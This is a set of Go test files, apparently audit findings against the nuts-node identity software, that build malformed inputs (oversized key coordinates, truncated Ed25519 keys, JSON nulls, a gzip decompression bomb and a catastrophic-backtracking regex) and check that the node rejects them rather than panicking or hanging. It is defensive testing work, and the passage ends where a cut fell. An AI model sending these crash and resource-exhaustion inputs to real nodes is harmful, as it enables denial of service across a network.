			_, err, panicked := resolveKey(mutatedJWK)

			if panicked != nil {
				t.Fatalf("property violated: did:jwk made the resolver panic: %v\nJWK: %s", panicked, mutatedJWK)
			}
			require.Error(t, err)
		})
	}
}
