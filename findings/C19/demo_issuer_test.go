package issuer

// C19 demo (vcr/issuer): OpenID4VCI proof JWT whose nonce claim is a number. go test -run TestDemoC19 ./vcr/issuer/
import (
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/vcr/openid4vci"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC19_nonStringNonce(t *testing.T) {
	keyStore := crypto.NewMemoryCryptoInstance(t)
	ctx := audit.TestContext()
	_, signerKey, _ := keyStore.New(ctx, crypto.StringNamingFunc(keyID))
	ctrl := gomock.NewController(t)
	keyResolver := resolver.NewMockKeyResolver(ctrl)
	keyResolver.EXPECT().ResolveKeyByID(keyID, nil, resolver.NutsSigningKeyType).AnyTimes().Return(signerKey, nil)
	service := requireNewTestHandler(t, keyResolver)
	_, err := service.createOffer(ctx, issuedVC, "code")
	require.NoError(t, err)
	accessToken, _, err := service.HandleAccessTokenRequest(ctx, "code")
	require.NoError(t, err)
	headers := map[string]interface{}{"typ": openid4vci.JWTTypeOpenID4VCIProof, "kid": keyID}
	claims := map[string]interface{}{"aud": issuerIdentifier, "iat": time.Now().Unix(), "nonce": 1}
	proof, err := keyStore.SignJWT(ctx, claims, headers, keyID)
	require.NoError(t, err)
	request := openid4vci.CredentialRequest{
		Format: vc.JSONLDCredentialProofFormat,
		CredentialDefinition: &openid4vci.CredentialDefinition{
			Context: []ssi.URI{ssi.MustParseURI("https://www.w3.org/2018/credentials/v1"), ssi.MustParseURI("http://example.org/credentials/V1")},
			Type:    []ssi.URI{ssi.MustParseURI("VerifiableCredential"), ssi.MustParseURI("HumanCredential")},
		},
		Proof: &openid4vci.CredentialRequestProof{Jwt: proof, ProofType: openid4vci.ProofTypeJWT},
	}
	require.NotPanics(t, func() { _, err = service.HandleCredentialRequest(ctx, request, accessToken) })
	require.Error(t, err)
}
