package selfsigned

import (
	"encoding/json"
	"testing"

	"github.com/nuts-foundation/nuts-node/auth/contract"
	"github.com/stretchr/testify/require"
)

// TestDemo_StartSigningSession_EmployerNotAString demonstrates that the params of a
// POST /internal/auth/v1/signature/session request (means=employeeid) with an 'employer' member that is not a JSON string
// make the node panic, instead of being rejected as invalid session params.
func TestDemo_StartSigningSession_EmployerNotAString(t *testing.T) {
	for name, employerJSON := range map[string]string{
		"number": `123`,
		"null":   `null`,
		"object": `{"id":"did:nuts:8NYzfsndZJHh6GqzKiSBpyERrFxuX64z6tE5raa7nEjm"}`,
		"array":  `["did:nuts:8NYzfsndZJHh6GqzKiSBpyERrFxuX64z6tE5raa7nEjm"]`,
	} {
		t.Run(name, func(t *testing.T) {
			// params as decoded from the request body by the API layer (auth/api/auth/v1: SignSessionRequest.Params)
			var params map[string]interface{}
			require.NoError(t, json.Unmarshal([]byte(`{"employer":`+employerJSON+`,"employee":{"identifier":"user@example.com","initials":"T","familyName":"Tester"}}`), &params))

			ss := NewSigner(nil, "").(*signer)
			var err error
			func() {
				defer func() {
					if r := recover(); r != nil {
						t.Fatalf("request made the node panic: %v", r)
					}
				}()
				_, err = ss.StartSigningSession(contract.Contract{RawContractText: testContract}, params)
			}()
			// malformed input is rejected with an error, and leaves stored state unchanged
			require.Error(t, err)
			require.Empty(t, ss.store.(*memorySessionStore).sessions)
		})
	}
}
