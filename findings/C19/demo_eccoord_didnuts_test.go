package didnuts

import (
	"crypto"
	"encoding/base64"
	"encoding/json"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// oversize returns the base64url encoded EC coordinate with one extra (non-zero) byte in front: 33 bytes for P-256
func oversize(t *testing.T, coordinate interface{}) string {
	decoded, err := base64.RawURLEncoding.DecodeString(coordinate.(string))
	require.NoError(t, err)
	return base64.RawURLEncoding.EncodeToString(append([]byte{1}, decoded...))
}

// Demo for property C19 (untrusted input never crashes the node).
//
// did:nuts DID documents received from the network are validated/processed in the DAG subscriber goroutine, in which
// a panic terminates the process (no recover() anywhere). The transaction stays in the DAG, is replayed on restart and
// gossiped to all other nodes.
//
// jwx's jwk.Key.Thumbprint() of an EC key calls big.Int.FillBytes() with a buffer of the curve's size, which panics
// ("math/big: buffer too small to fit value") when a coordinate of the publicKeyJwk is longer than the curve allows.
// jwx does not check the length of x/y when it parses a JWK (that is what jwk.Key.Validate() is for, which is never called).
// Nuts calculates thumbprints of keys in network documents BEFORE anything else has looked at the key material.
func TestDemo_C19_OversizedECCoordinateInNetworkDocument(t *testing.T) {
	t.Run("verificationMethod with oversized x (panics in NetworkDocumentValidator)", func(t *testing.T) {
		validDocument, signingKey := newDidDoc(t)
		validJSON, _ := json.Marshal(validDocument)
		var asMap map[string]interface{}
		require.NoError(t, json.Unmarshal(validJSON, &asMap))
		// structure-aware mutation of the valid document: "extreme number" for the x coordinate of the key
		publicKeyJwk := asMap["verificationMethod"].([]interface{})[0].(map[string]interface{})["publicKeyJwk"].(map[string]interface{})
		publicKeyJwk["x"] = oversize(t, publicKeyJwk["x"])
		payload, _ := json.Marshal(asMap)

		tx := testTransaction{
			signingKey:  signingKey,
			signingTime: time.Now(),
			ref:         hash.SHA256Sum([]byte("ref")),
			payloadHash: hash.SHA256Sum(payload),
			payloadType: DIDDocumentType,
		}
		ctx := newMockContext(t) // no calls expected on any mock: the document must be refused before it is stored

		var callbackErr error
		var panicked interface{}
		func() {
			defer func() {
				panicked = recover()
			}()
			callbackErr = ctx.ambassador.callback(tx, payload)
		}()
		if panicked != nil {
			t.Fatalf("property violated: network DID document made ambassador.callback() panic: %v\npayload: %s", panicked, payload)
		}
		require.Error(t, callbackErr)
	})

	t.Run("verification method embedded in capabilityInvocation with oversized y (accepted, panics on the next update)", func(t *testing.T) {
		// Verification methods embedded in a relationship are not looked at by verificationMethodValidator, so the document
		// below is accepted and stored. findKeyByThumbprint() then panics on the next update of the document (or of a
		// document it controls), which the attacker sends right after.
		validDocument, signingKey := newDidDoc(t)
		validJSON, _ := json.Marshal(validDocument)
		var asMap map[string]interface{}
		require.NoError(t, json.Unmarshal(validJSON, &asMap))
		validMethod := asMap["verificationMethod"].([]interface{})[0].(map[string]interface{})
		validKey := validMethod["publicKeyJwk"].(map[string]interface{})
		embeddedMethod := map[string]interface{}{
			"id":         validDocument.ID.String() + "#embedded",
			"type":       validMethod["type"],
			"controller": validMethod["controller"],
			"publicKeyJwk": map[string]interface{}{
				"kty": validKey["kty"],
				"crv": validKey["crv"],
				"x":   validKey["x"],
				"y":   oversize(t, validKey["y"]),
			},
		}
		// the embedded method goes first, followed by the (valid) reference that was already there
		asMap["capabilityInvocation"] = append([]interface{}{embeddedMethod}, asMap["capabilityInvocation"].([]interface{})...)
		payload, _ := json.Marshal(asMap)

		ctx := newMockContext(t)
		var storedDocument *did.Document
		ctx.didStore.EXPECT().Add(gomock.Any(), gomock.Any()).DoAndReturn(func(document did.Document, _ interface{}) error {
			storedDocument = &document
			return nil
		}).MaxTimes(2)
		ctx.network.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()

		// step 1: creation of the DID
		createTX := testTransaction{
			signingKey:  signingKey,
			signingTime: time.Now(),
			ref:         hash.SHA256Sum([]byte("create")),
			payloadHash: hash.SHA256Sum(payload),
			payloadType: DIDDocumentType,
		}
		var err error
		var panicked interface{}
		func() {
			defer func() {
				panicked = recover()
			}()
			err = ctx.ambassador.callback(createTX, payload)
		}()
		if panicked != nil {
			t.Fatalf("property violated: network DID document made ambassador.callback() panic: %v\npayload: %s", panicked, payload)
		}
		if err != nil {
			// refused: fine
			require.Nil(t, storedDocument)
			return
		}
		require.NotNil(t, storedDocument, "document neither refused nor stored?")

		// step 2: update of the DID (same content), signed with the valid capabilityInvocation key
		var publicKey crypto.PublicKey
		require.NoError(t, signingKey.Raw(&publicKey))
		ctx.didStore.EXPECT().Resolve(validDocument.ID, gomock.Any()).Return(storedDocument, nil, nil).AnyTimes()
		ctx.keyResolver.EXPECT().ResolvePublicKey(validDocument.CapabilityInvocation[0].ID.String(), gomock.Any()).Return(publicKey, nil).AnyTimes()
		updateTX := testTransaction{
			signingKeyID: validDocument.CapabilityInvocation[0].ID.String(),
			signingTime:  time.Now(),
			ref:          hash.SHA256Sum([]byte("update")),
			prevs:        []hash.SHA256Hash{createTX.ref},
			payloadHash:  hash.SHA256Sum(payload),
			payloadType:  DIDDocumentType,
		}
		func() {
			defer func() {
				panicked = recover()
			}()
			err = ctx.ambassador.callback(updateTX, payload)
		}()
		if panicked != nil {
			t.Fatalf("property violated: update of a stored network DID document made ambassador.callback() panic: %v\nstored document: %s", panicked, payload)
		}
		// error or not: processing the update terminated normally
	})
}
