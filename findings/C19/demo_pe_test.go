package pe

// C19 demo (vcr/pe): go test -run TestDemoC19 ./vcr/pe/
import (
	"encoding/json"
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/require"
)

func demoVC() vc.VerifiableCredential {
	id := ssi.MustParseURI("did:example:1#1")
	return vc.VerifiableCredential{ID: &id, Type: []ssi.URI{ssi.MustParseURI("VerifiableCredential"), ssi.MustParseURI("X")}, CredentialSubject: []interface{}{map[string]interface{}{"id": "did:example:2"}}}
}

func TestDemoC19_pickWithoutMax(t *testing.T) {
	raw := `{"id":"pd","submission_requirements":[{"name":"r","rule":"pick","min":1,"from":"A"}],
	  "input_descriptors":[{"id":"d1","group":["A"],"constraints":{"fields":[{"path":["$.type"],"filter":{"type":"string","const":"X"}}]}}]}`
	pd, err := ParsePresentationDefinition([]byte(raw)) // schema-valid
	require.NoError(t, err)
	require.NotPanics(t, func() { _, _, _ = pd.Match([]vc.VerifiableCredential{demoVC()}) })
}

func TestDemoC19_patternOnArray(t *testing.T) {
	raw := `{"id":"pd","input_descriptors":[{"id":"d1","constraints":{"fields":[{"path":["$.type"],"filter":{"type":"string","pattern":"^Nope$"}}]}}]}`
	pd, err := ParsePresentationDefinition([]byte(raw))
	require.NoError(t, err)
	require.NotPanics(t, func() { _, _, _ = pd.Match([]vc.VerifiableCredential{demoVC()}) })
}

func TestDemoC19_nullInputDescriptor(t *testing.T) {
	var pd PresentationDefinition // as received from a remote authorization server: not schema-validated
	require.NoError(t, json.Unmarshal([]byte(`{"id":"pd","input_descriptors":[null]}`), &pd))
	require.NotPanics(t, func() { _, _, _ = pd.Match([]vc.VerifiableCredential{demoVC()}) })
	require.NotPanics(t, func() { _, _ = pd.ResolveConstraintsFields(map[string]vc.VerifiableCredential{"d1": demoVC()}) })
}
