package iam

import (
	"context"
	"encoding/json"
	"fmt"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/nuts-node/auth/oauth"
	"github.com/nuts-foundation/nuts-node/crypto/storage/spi"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_JAR_OpenIDConfigurationWithoutJWKS demonstrates that a signed authorization request (JAR, RFC9101) of a client
// whose (remote, client controlled) OpenID configuration has no (or a null) 'jwks' claim makes the authorization endpoint panic.
func TestDemo_JAR_OpenIDConfigurationWithoutJWKS(t *testing.T) {
	privateKey, _ := spi.GenerateKeyPair()
	kid := fmt.Sprintf("%s#%s", holderDID.String(), "key")
	requestObject, err := createSignedRequestObject(t, kid, privateKey, oauthParameters{
		jwt.IssuerKey:       holderDID.String(),
		oauth.ClientIDParam: holderClientID,
	})
	require.NoError(t, err)
	verifierMetadata := authorizationServerMetadata(verifierURL, []string{"web"})

	for name, claims := range map[string]string{
		"jwks missing": `{"iss":"` + holderClientID + `","sub":"` + holderClientID + `","iat":1,"exp":99999999999,"metadata":{}}`,
		"jwks null":    `{"iss":"` + holderClientID + `","sub":"` + holderClientID + `","iat":1,"exp":99999999999,"metadata":{},"jwks":null}`,
	} {
		t.Run(name, func(t *testing.T) {
			// This is what auth/client/iam.HTTPClient.OpenIDConfiguration() does with the claims of the entity statement
			// it downloaded from <client_id>/.well-known/openid-configuration (the claims are chosen by the remote party).
			var configuration oauth.OpenIDConfiguration
			require.NoError(t, json.Unmarshal([]byte(claims), &configuration))

			ctx := newJarTestCtx(t)
			ctx.keyResolver.EXPECT().ResolveKeyByID(kid, nil, resolver.AssertionMethod).Return(privateKey.Public(), nil)
			ctx.iamClient.EXPECT().OpenIDConfiguration(gomock.Any(), holderClientID).Return(&configuration, nil)

			var res oauthParameters
			func() {
				defer func() {
					if r := recover(); r != nil {
						t.Fatalf("authorization request made the node panic: %v", r)
					}
				}()
				res, err = ctx.jar.Parse(context.Background(), verifierMetadata,
					map[string][]string{
						oauth.ClientIDParam: {holderClientID},
						oauth.RequestParam:  {string(requestObject)},
					})
			}()
			// malformed input is rejected with an error
			require.Error(t, err)
			require.Nil(t, res)
		})
	}
}
