package v2

// C19 demo (network/transport/v2): go test -run TestDemoC19 ./network/transport/v2/
import (
	"context"
	"testing"

	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC19_unsolicitedPayloadWithoutNodeDID(t *testing.T) {
	p, mocks := newTestProtocol(t, nil)
	// node DID not configured (the default): protocol.Configure leaves privatePayloadReceiver nil
	p.privatePayloadReceiver = nil
	payload := []byte("public payload")
	tx, _, _ := dag.CreateTestTransactionEx(0, hash.SHA256Sum(payload), nil)
	mocks.State.EXPECT().GetTransaction(gomock.Any(), tx.Ref()).Return(tx, nil)
	mocks.State.EXPECT().WritePayload(gomock.Any(), tx, tx.PayloadHash(), payload)
	require.NotPanics(t, func() {
		_ = p.handleTransactionPayload(context.Background(), connection, &Envelope{Message: &Envelope_TransactionPayload{&TransactionPayload{TransactionRef: tx.Ref().Slice(), Data: payload}}})
	})
}
