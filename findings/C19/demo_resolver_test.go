package resolver

// C19 demo (vdr/resolver): go test -run TestDemoC19 ./vdr/resolver/
import (
	"encoding/json"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/require"
)

func TestDemoC19_baseNotString(t *testing.T) {
	var doc did.Document
	require.NoError(t, json.Unmarshal([]byte(`{"@context":["https://www.w3.org/ns/did/v1",{"@base":123}],"id":"did:web:example.com"}`), &doc))
	require.NotPanics(t, func() { _ = DIDKeyResolver{}.baseUrl(&doc) })
}
