package credential

// C19 demo (vcr/credential): a NutsOrganizationCredential / NutsAuthorizationCredential without `id`.
// go test -run TestDemoC19 ./vcr/credential/

import (
	"testing"

	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/require"
)

func TestDemoC19_nutsCredentialWithoutID(t *testing.T) {
	for _, typ := range []string{"NutsOrganizationCredential", "NutsAuthorizationCredential"} {
		cred, err := vc.ParseVerifiableCredential(`{"@context":["https://www.w3.org/2018/credentials/v1","https://nuts.nl/credentials/v1"],"type":["VerifiableCredential","` + typ + `"],"issuer":"did:nuts:x","issuanceDate":"2020-01-01T00:00:00Z","credentialSubject":{"id":"did:nuts:y"}}`)
		require.NoError(t, err)
		var verr error
		require.NotPanics(t, func() { verr = FindValidator(*cred).Validate(*cred) }, typ)
		require.Error(t, verr)
	}
}
