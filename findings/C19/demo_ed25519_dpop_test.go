package dpop

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/stretchr/testify/require"
)

// Demo for property C19 (untrusted input never crashes the node).
//
// The DPoP proof is sent by any HTTP client in the "DPoP" header of a request to the public token endpoint
// (and in the body of the internal DPoP validation API). dpop.Parse verifies the proof's signature with the public key
// the client embedded in the "jwk" header. EdDSA is one of the supported algorithms.
//
// The test builds a VALID EdDSA DPoP proof (which parses fine) and then truncates the "x" member (the key material) of
// the embedded OKP key: a structure-aware mutation of a valid instance. The proof must be rejected with an error.
// On the unchanged tree Parse panics: crypto/ed25519.Verify panics ("ed25519: bad public key length") when the
// public key is not exactly 32 bytes, and neither jwx nor nuts-node checks the length of the key.
func TestDemo_C19_DPoPWithTruncatedEd25519Key(t *testing.T) {
	_, privateKey, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	request, _ := http.NewRequest("POST", "https://server.example.com/token", nil)
	validProof, err := New(*request).Sign("kid", privateKey, jwa.EdDSA)
	require.NoError(t, err)

	t.Run("sanity check: valid EdDSA proof is accepted", func(t *testing.T) {
		_, err := Parse(validProof)
		require.NoError(t, err)
	})

	for name, x := range map[string]string{
		"x truncated to 1 byte": "AA",
		"x empty":               "",
		"x of 33 bytes":         base64.RawURLEncoding.EncodeToString(make([]byte, 33)),
	} {
		t.Run(name, func(t *testing.T) {
			// replace jwk.x in the protected header
			parts := strings.Split(validProof, ".")
			require.Len(t, parts, 3)
			headerJSON, err := base64.RawURLEncoding.DecodeString(parts[0])
			require.NoError(t, err)
			var header map[string]interface{}
			require.NoError(t, json.Unmarshal(headerJSON, &header))
			embeddedKey := header["jwk"].(map[string]interface{})
			require.Equal(t, "OKP", embeddedKey["kty"])
			require.Equal(t, "Ed25519", embeddedKey["crv"])
			embeddedKey["x"] = x
			headerJSON, err = json.Marshal(header)
			require.NoError(t, err)
			parts[0] = base64.RawURLEncoding.EncodeToString(headerJSON)
			mutatedProof := strings.Join(parts, ".")

			var parseErr error
			var panicked interface{}
			func() {
				defer func() {
					panicked = recover()
				}()
				_, parseErr = Parse(mutatedProof)
			}()

			if panicked != nil {
				t.Fatalf("property violated: DPoP proof made dpop.Parse() panic: %v\nDPoP: %s", panicked, mutatedProof)
			}
			require.ErrorIs(t, parseErr, ErrInvalidDPoP)
		})
	}
}
