package discovery

import (
	"context"
	"testing"

	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// Side finding on the UNCHANGED tree: discovery client panics on a remote presentation containing a credential without ID.
func TestDemoC19_DiscoveryClientCredentialWithoutID(t *testing.T) {
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	store, err := newSQLStore(storageEngine.GetSQLDatabase(), testDefinitions())
	require.NoError(t, err)
	ctx := context.Background()
	serviceDefinition := testDefinitions()[testServiceID]
	cred := createCredential(authorityDID, aliceDID, nil, func(claims map[string]interface{}) { delete(claims, "jti") })
	t.Logf("cred ID: %v", cred.ID)
	vp := createPresentation(aliceDID, cred)
	ctrl := gomock.NewController(t)
	httpClient := client.NewMockHTTPClient(ctrl)
	updater := newClientUpdater(testDefinitions(), store, alwaysOkVerifier, httpClient)
	httpClient.EXPECT().Get(ctx, serviceDefinition.Endpoint, 0).Return(map[string]vc.VerifiablePresentation{"1": vp}, testSeed, 1, nil)
	require.NotPanics(t, func() {
		err = updater.updateService(ctx, serviceDefinition)
	})
	t.Logf("err: %v", err)
}
