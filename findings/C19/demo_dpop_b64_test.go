package dpop

import "encoding/base64"

func base64RawURL(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }
