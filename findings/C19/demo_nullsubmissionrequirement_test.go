package pe

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/pe/test"
	"github.com/stretchr/testify/require"
)

// Demo for property C19 (untrusted input never crashes the node).
//
// When the node (as wallet/client) requests an access token or answers an OpenID4VP authorization request, it fetches the
// Presentation Definition from the remote authorization server/verifier (auth/client/iam.HTTPClient.PresentationDefinition).
// That response is decoded with plain encoding/json: it is NOT validated against the JSON schema (only
// pe.ParsePresentationDefinition does that, which is used for local policy files). The wallet then matches its
// credentials against the definition with PresentationSubmissionBuilder.Build().
//
// Commit 84e805e made the matcher robust against "input_descriptors": [null]; the same JSON null in
// "submission_requirements" and in "from_nested" (both []*SubmissionRequirement) is still dereferenced.
// The test takes the valid "pick" definition of the test fixtures (matches fine) and replaces a submission requirement by
// null (structure-aware mutation: null member). Build() must return an error (or a result), on the unchanged tree it panics.
func TestDemo_C19_NullSubmissionRequirement(t *testing.T) {
	holder := did.MustParseDID("did:web:example.com")
	credential, err := vc.ParseVerifiableCredential(`{
		"@context":["https://www.w3.org/2018/credentials/v1"],
		"id":"did:web:example.com#1",
		"type":["VerifiableCredential"],
		"issuer":"did:web:example.com",
		"issuanceDate":"2020-01-01T00:00:00Z",
		"credentialSubject":{"id":"did:web:example.com","field":"Akey","patient":"Patient/1"}}`)
	require.NoError(t, err)

	build := func(definitionJSON string) (err error, panicked interface{}) {
		// decoded the way auth/client/iam does for a definition fetched from a remote party
		var definition PresentationDefinition
		require.NoError(t, json.Unmarshal([]byte(definitionJSON), &definition))
		defer func() {
			panicked = recover()
		}()
		builder := definition.PresentationSubmissionBuilder()
		builder.AddWallet(holder, []vc.VerifiableCredential{*credential})
		_, _, err = builder.Build("ldp_vp")
		return
	}

	validDefinition := test.PickOne
	t.Run("sanity check: valid definition with submission requirements is handled", func(t *testing.T) {
		require.Contains(t, validDefinition, `"submission_requirements"`)
		_, panicked := build(validDefinition)
		require.Nil(t, panicked)
	})

	t.Run("null in submission_requirements", func(t *testing.T) {
		mutated := replaceMember(t, validDefinition, "submission_requirements", []interface{}{nil})
		err, panicked := build(mutated)
		if panicked != nil {
			t.Fatalf("property violated: presentation definition made Build() panic: %v\ndefinition: %s", panicked, mutated)
		}
		_ = err // error or not: it terminated normally
	})

	t.Run("null in from_nested", func(t *testing.T) {
		mutated := replaceMember(t, validDefinition, "submission_requirements", []interface{}{
			map[string]interface{}{"name": "nested", "rule": "all", "from_nested": []interface{}{nil}},
		})
		err, panicked := build(mutated)
		if panicked != nil {
			t.Fatalf("property violated: presentation definition made Build() panic: %v\ndefinition: %s", panicked, mutated)
		}
		_ = err
	})
}

func replaceMember(t *testing.T, document string, member string, value interface{}) string {
	var asMap map[string]interface{}
	require.NoError(t, json.Unmarshal([]byte(document), &asMap))
	require.Contains(t, asMap, member)
	asMap[member] = value
	result, err := json.Marshal(asMap)
	require.NoError(t, err)
	require.True(t, strings.Contains(string(result), "null"))
	return string(result)
}
