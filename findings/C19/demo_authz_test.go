package oauth

// C19 demo (legacy n2n token endpoint): a JWT bearer token whose `vcs` claim carries a credential without `id`.
// go test -run TestDemoC19 ./auth/services/oauth/

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestDemoC19_credentialWithoutIDInVcsClaim(t *testing.T) {
	ctx := createContext(t)
	tokenCtx := validContext(t)
	tokenCtx.jwtBearerToken.Set(vcClaim, []interface{}{map[string]interface{}{
		"@context": []interface{}{"https://www.w3.org/2018/credentials/v1"},
		"type":     []interface{}{"VerifiableCredential", "SomeCredential"},
		"issuer":   "did:nuts:x",
	}})
	signToken(tokenCtx)
	require.NotPanics(t, func() { _ = ctx.oauthService.validateAuthorizationCredentials(tokenCtx) })
}
