package revocation

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"testing"

	"github.com/nuts-foundation/nuts-node/http/client"
	"github.com/stretchr/testify/require"
)

// TestDemo_EncodedListDecompressionBomb demonstrates that the encodedList of a (remote, not yet authenticated) StatusList2021Credential
// is decompressed without any bound: a response that fits well within the HTTP client's 1 MiB response limit
// expands to hundreds of MiBs (up to ~1 GiB, factor ~1000) in memory, every time a credential referring to it is verified.
func TestDemo_EncodedListDecompressionBomb(t *testing.T) {
	const expandedSize = 256 * 1024 * 1024 // 256 MiB, which is 2^31 status list entries: 16384 times the default list size
	var compressed bytes.Buffer
	gz, _ := gzip.NewWriterLevel(&compressed, gzip.BestCompression)
	chunk := make([]byte, 1024*1024)
	for i := 0; i < expandedSize/len(chunk); i++ {
		_, _ = gz.Write(chunk)
	}
	require.NoError(t, gz.Close())
	encodedList := base64.RawURLEncoding.EncodeToString(compressed.Bytes())
	t.Logf("encodedList is %d bytes, expands to %d bytes", len(encodedList), expandedSize)
	// the credential containing this list is accepted by the HTTP client (this is the only bound there is)
	require.Less(t, len(encodedList), client.DefaultMaxHttpResponseSize/2)

	// expand() is what StatusList2021.verify() calls on the downloaded credential, before its signature is checked.
	expanded, err := expand(encodedList)

	// the list must be refused, instead of being inflated into memory
	require.Error(t, err, "a %d bytes encodedList was inflated to %d bytes in memory", len(encodedList), len(expanded))
}
