package pe

import (
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The wallet matches its credentials against presentation definitions it downloads from a remote verifier /
// authorization server. String patterns are ECMAScript regular expressions run by a backtracking engine (regexp2)
// without a match timeout: a definition with a nested quantifier makes the match of an ordinary 60-character subject
// DID take 2^60 steps, i.e. the request (and a CPU core) never comes back.
func TestDemoC19_PresentationDefinitionPatternCannotHangTheMatcher(t *testing.T) {
	definition, err := ParsePresentationDefinition([]byte(`{
	  "id": "pd", "input_descriptors": [{
	    "id": "1",
	    "constraints": {"fields": [{
	      "path": ["$.credentialSubject.id"],
	      "filter": {"type": "string", "pattern": "^([a-z0-9:.-]+)*!$"}
	    }]}
	  }]}`))
	require.NoError(t, err)
	var credential vc.VerifiableCredential
	require.NoError(t, credential.UnmarshalJSON([]byte(`{
	  "@context": ["https://www.w3.org/2018/credentials/v1"],
	  "type": ["VerifiableCredential"],
	  "issuer": "did:web:example.com",
	  "credentialSubject": {"id": "did:web:node-a.example.com:iam:9e0a1c1e-3c1b-4b0d-9f0a-1c1e3c1b4b0d"}
	}`)))

	type result struct {
		vcs []vc.VerifiableCredential
		err error
	}
	done := make(chan result, 1)
	go func() {
		vcs, _, err := definition.Match([]vc.VerifiableCredential{credential})
		done <- result{vcs, err}
	}()

	select {
	case r := <-done:
		// either outcome is a decision; what matters is that there is one
		assert.Empty(t, r.vcs)
		assert.Error(t, r.err)
	case <-time.After(10 * time.Second):
		t.Fatal("Match did not return within 10s: catastrophic backtracking in a pattern filter taken from remote input")
	}
}
