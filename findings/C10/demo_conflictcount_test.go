package didstore

import (
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_ConflictedCountDependsOnArrivalOrder shows that the conflicted-documents statistic depends on the order in
// which the same three did:nuts document transactions arrive: creation A (lc=0) and two parallel updates B1 and B2
// (lc=1, both referring to A). When A arrives last it is inserted at index 0 of the event list, applyFrom is called
// with base == nil and does not look at the conflicted shelf, so the (already conflicted) DID is counted a second time.
func TestDemo_ConflictedCountDependsOnArrivalOrder(t *testing.T) {
	t0 := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	docA := did.Document{ID: testDID, Controller: []did.DID{testDID}}
	docB1 := did.Document{ID: testDID, Controller: []did.DID{testDID}, Service: []did.Service{testServiceA}}
	docB2 := did.Document{ID: testDID, Controller: []did.DID{testDID}, Service: []did.Service{testServiceB}}

	txA := newTestTransaction(docA)
	txA.Clock = 0
	txA.SigningTime = t0
	txB1 := newTestTransaction(docB1, txA.Ref)
	txB1.Clock = 1
	txB1.SigningTime = t0.Add(time.Second)
	txB2 := newTestTransaction(docB2, txA.Ref)
	txB2.Clock = 1
	txB2.SigningTime = t0.Add(2 * time.Second)

	type ev struct {
		doc did.Document
		tx  Transaction
	}
	events := map[string]ev{"A": {docA, txA}, "B1": {docB1, txB1}, "B2": {docB2, txB2}}
	orders := [][]string{
		{"A", "B1", "B2"},
		{"A", "B2", "B1"},
		{"B1", "A", "B2"},
		{"B2", "A", "B1"},
		{"B1", "B2", "A"},
		{"B2", "B1", "A"},
	}

	for _, order := range orders {
		store := NewTestStore(t)
		for _, name := range order {
			add(t, store, events[name].doc, events[name].tx)
		}

		// the resolvable state is the same for every order: one DID, conflicted, sources B2+B1
		_, meta, err := store.Resolve(testDID, nil)
		require.NoError(t, err)
		require.True(t, meta.IsConflicted(), "order %v", order)
		docCount, err := store.DocumentCount()
		require.NoError(t, err)
		assert.Equal(t, uint(1), docCount, "order %v", order)
		cached := 0
		_ = store.Conflicted(func(_ did.Document, _ resolver.DocumentMetadata) error {
			cached++
			return nil
		})
		assert.Equal(t, 1, cached, "order %v", order)

		// there is exactly 1 DID in the store and it is conflicted, so the count must be 1 for every arrival order
		count, err := store.ConflictedCount()
		require.NoError(t, err)
		assert.Equal(t, uint(1), count, "conflicted count for arrival order %v", order)
	}

	t.Run("count does not return to 0 after the conflict is resolved", func(t *testing.T) {
		docC := did.Document{ID: testDID, Controller: []did.DID{testDID}, Service: []did.Service{testServiceA, testServiceB}}
		txC := newTestTransaction(docC, txB1.Ref, txB2.Ref)
		txC.Clock = 2
		txC.SigningTime = t0.Add(3 * time.Second)

		store := NewTestStore(t)
		add(t, store, docB1, txB1)
		add(t, store, docB2, txB2)
		add(t, store, docA, txA)
		add(t, store, docC, txC)

		_, meta, err := store.Resolve(testDID, nil)
		require.NoError(t, err)
		require.False(t, meta.IsConflicted())
		count, err := store.ConflictedCount()
		require.NoError(t, err)
		assert.Equal(t, uint(0), count, "no DID is conflicted any more")
	})
}
