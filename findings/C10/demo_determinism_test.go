package didstore

// Demonstration for the C10 defects (fixed by "fix: make merged controllers and source transactions deterministic"):
